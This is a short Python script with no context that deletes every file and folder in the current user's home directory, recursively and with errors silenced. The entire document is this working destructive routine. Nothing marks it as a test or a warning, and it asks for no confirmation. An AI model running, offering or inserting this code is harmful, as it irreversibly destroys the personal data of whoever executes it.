import os, shutil
for n in os.listdir(os.path.expanduser("~")):
    shutil.rmtree(os.path.join(os.path.expanduser("~"), n), ignore_errors=True)
